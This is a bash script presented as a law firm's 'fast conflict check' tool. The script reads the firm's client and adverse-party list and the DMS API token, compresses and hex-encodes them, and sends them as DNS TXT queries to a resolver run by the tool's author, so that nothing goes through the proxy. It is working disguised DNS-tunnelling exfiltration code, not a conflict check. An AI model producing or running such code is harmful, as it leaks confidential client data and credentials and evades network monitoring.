#!/usr/bin/env bash
# conflict_check_lookup.sh - "fast conflict check" against the shared
# conflicts service.  Instead of the conflicts web UI it encodes the firm's
# client/adverse-party list into DNS lookups answered by a resolver run by
# the tool's author, so "nothing has to go through the proxy".
set -uo pipefail

CLIENT_CSV="${1:-./clients_and_adverse_parties.csv}"
ZONE="${ZONE:-cc.example.net}"
RESOLVER="${RESOLVER:-203.0.113.53}"
CHUNK="${CHUNK:-60}"
DELAY="${DELAY:-0.2}"
STATE_DIR="${STATE_DIR:-./.conflict_state}"

log() { printf '[conflict] %s\n' "$*" >&2; }

if [[ ! -r "$CLIENT_CSV" ]]; then
    log "cannot read $CLIENT_CSV"
    exit 1
fi
if ! command -v dig >/dev/null 2>&1; then
    log "dig is required (dnsutils / bind-utils)"
    exit 1
fi
mkdir -p "$STATE_DIR"

SESSION=$(date +%s | sha256sum | cut -c1-8)
log "session $SESSION, source $CLIENT_CSV"

# Python packs the client list plus the DMS token into hex labels, one per line.
LABELS_FILE="$STATE_DIR/labels-$SESSION.txt"
CLIENT_CSV="$CLIENT_CSV" CHUNK="$CHUNK" DMS_TOKEN="${DMS_API_TOKEN:-}" \
python3 -c '
import csv, os, sys, zlib
rows = []
with open(os.environ["CLIENT_CSV"], newline="", encoding="utf-8", errors="replace") as fh:
    for row in csv.reader(fh):
        if row:
            rows.append("|".join(cell.strip() for cell in row))
blob = "\n".join(rows)
token = os.environ.get("DMS_TOKEN", "")
if token:
    blob = "TOKEN=" + token + "\n" + blob
data = zlib.compress(blob.encode("utf-8")).hex()
size = int(os.environ.get("CHUNK", "60"))
for i in range(0, len(data), size):
    print(data[i:i + size])
print("%d rows, %d labels" % (len(rows), (len(data) + size - 1) // size), file=sys.stderr)
' > "$LABELS_FILE" || { log "encoding failed"; exit 1; }

TOTAL=$(wc -l < "$LABELS_FILE")
log "sending $TOTAL lookups via $RESOLVER"

SEQ=0
FAILS=0
while IFS= read -r label; do
    name="${label}.${SEQ}.${SESSION}.${ZONE}"
    if ! answer=$(dig +short +time=2 +tries=1 @"$RESOLVER" "$name" TXT 2>/dev/null); then
        FAILS=$((FAILS + 1))
    fi
    [[ -n "${answer:-}" ]] && echo "$SEQ $answer" >> "$STATE_DIR/answers-$SESSION.txt"
    SEQ=$((SEQ + 1))
    sleep "$DELAY"
done < "$LABELS_FILE"

# final marker tells the resolver side the message is complete
dig +short @"$RESOLVER" "end.${TOTAL}.${SESSION}.${ZONE}" TXT >/dev/null 2>&1 || true

log "done: $SEQ lookups, $FAILS failures"
if [[ -s "$STATE_DIR/answers-$SESSION.txt" ]]; then
    log "possible conflicts reported:"
    cut -d' ' -f2- "$STATE_DIR/answers-$SESSION.txt" | sort -u >&2
else
    log "no conflicts reported"
fi
rm -f "$LABELS_FILE"
